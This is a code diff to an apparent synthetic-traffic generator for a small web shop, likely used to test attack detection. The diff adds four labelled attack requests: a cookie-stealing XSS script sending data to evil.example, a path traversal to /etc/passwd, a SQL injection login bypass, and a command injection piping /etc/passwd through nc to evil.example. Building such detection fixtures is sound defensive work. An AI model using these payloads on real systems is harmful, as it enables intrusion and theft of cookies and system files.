@@ -42,7 +42,9 @@ const WORDS = [
   'novel', 'cookbook', 'puzzle', 'kite', 'boots', 'sneakers', 'jacket', 'garden', 'hose', 'rake', 'candle', 'vase',
   'ball', 'racket', 'tent', 'backpack', 'bottle', 'kettle', 'pan', 'knife', 'blanket', 'pillow', 'clock', 'radio'
 ]
-const NAMES = ['alice', 'bob', 'carol', 'dave', 'erin', 'frank', 'grace', 'heidi', 'ivan', 'judy', 'mallory', 'oscar', 'peggy', 'trent', 'victor', 'walter']
+/** The shop's registered customers (a small shop: its regulars log in again and again). */
+const ACCOUNTS = ['alice', 'bob', 'carol', 'dave', 'erin', 'frank', 'grace', 'heidi', 'ivan', 'judy', 'mallory', 'oscar', 'peggy', 'trent', 'victor', 'walter']
+  .flatMap((n, i) => [n, `${n}${(i * 37) % 90 + 10}`])
 const USER_AGENTS = [
   'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
   'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36',
@@ -90,22 +92,22 @@ export function createShopTraffic (seed: number | string): ShopTraffic {
     const userAgent = pick(prng, USER_AGENTS)
     const base = { source, userAgent, query: '', body: '' }
     const r = prng.next()
-    if (r < 0.10) return { ...base, method: 'GET', path: '/' }
-    if (r < 0.35) {
+    if (r < 0.08) return { ...base, method: 'GET', path: '/' }
+    if (r < 0.30) {
       const pairs: Array<[string, string]> = [['category', pick(prng, CATEGORIES)]]
       if (prng.next() < 0.6) pairs.push(['page', String(1 + prng.nextInt(6))])
       if (prng.next() < 0.5) pairs.push(['sort', pick(prng, SORTS)])
       return { ...base, method: 'GET', path: '/products', query: form(pairs) }
     }
-    if (r < 0.65) return { ...base, method: 'GET', path: '/product', query: form([['id', String(1 + prng.nextInt(480))]]) }
-    if (r < 0.80) {
-      const n = 1 + prng.nextInt(3)
+    if (r < 0.55) return { ...base, method: 'GET', path: '/product', query: form([['id', String(1 + prng.nextInt(480))]]) }
+    if (r < 0.70) {
+      const n = 1 + prng.nextInt(2)
       const q: string[] = []
       for (let i = 0; i < n; i++) q.push(pick(prng, WORDS))
       return { ...base, method: 'GET', path: '/search', query: form([['q', q.join(' ')]]) }
     }
-    if (r < 0.93) return { ...base, method: 'POST', path: '/cart', body: form([['product', String(1 + prng.nextInt(480))], ['qty', String(1 + prng.nextInt(4))]]) }
-    return { ...base, method: 'POST', path: '/login', body: form([['user', `${pick(prng, NAMES)}${prng.nextInt(100)}`], ['password', password()]]) }
+    if (r < 0.85) return { ...base, method: 'POST', path: '/cart', body: form([['product', String(1 + prng.nextInt(480))], ['qty', String(1 + prng.nextInt(4))]]) }
+    return { ...base, method: 'POST', path: '/login', body: form([['user', pick(prng, ACCOUNTS)], ['password', password()]]) }
   }
   return {
     next,
@@ -144,3 +146,23 @@ export function toObservation (r: ShopRequest): IngestObservation {
   if (r.method === 'POST') headers['content-type'] = 'application/x-www-form-urlencoded'
   return { kind: 'http', method: r.method, path: r.path, query: r.query, body: r.body, headers, source: r.source }
 }
+
+/** One attack per shop endpoint (other than the product page), for attack episodes on distinct contexts. */
+export const OTHER_ATTACKS: ReadonlyArray<{ name: string, request: (source: string) => ShopRequest }> = [
+  {
+    name: 'cross-site scripting in the search box',
+    request: (source) => ({ method: 'GET', path: '/search', query: form([['q', '<script>document.location="http://evil.example/?c="+document.cookie</script>']]), body: '', source, userAgent: USER_AGENTS[0] })
+  },
+  {
+    name: 'path traversal in the catalogue category',
+    request: (source) => ({ method: 'GET', path: '/products', query: form([['category', '../../../../etc/passwd'], ['page', '1']]), body: '', source, userAgent: USER_AGENTS[1] })
+  },
+  {
+    name: 'SQL injection in the login form',
+    request: (source) => ({ method: 'POST', path: '/login', query: '', body: form([['user', "admin' OR 1=1 LIMIT 1 --"], ['password', 'x']]), source, userAgent: USER_AGENTS[2] })
+  },
+  {
+    name: 'command injection in the cart quantity',
+    request: (source) => ({ method: 'POST', path: '/cart', query: '', body: form([['product', '12'], ['qty', '1; cat /etc/passwd | nc evil.example 4444']]), source, userAgent: USER_AGENTS[3] })
+  }
+]
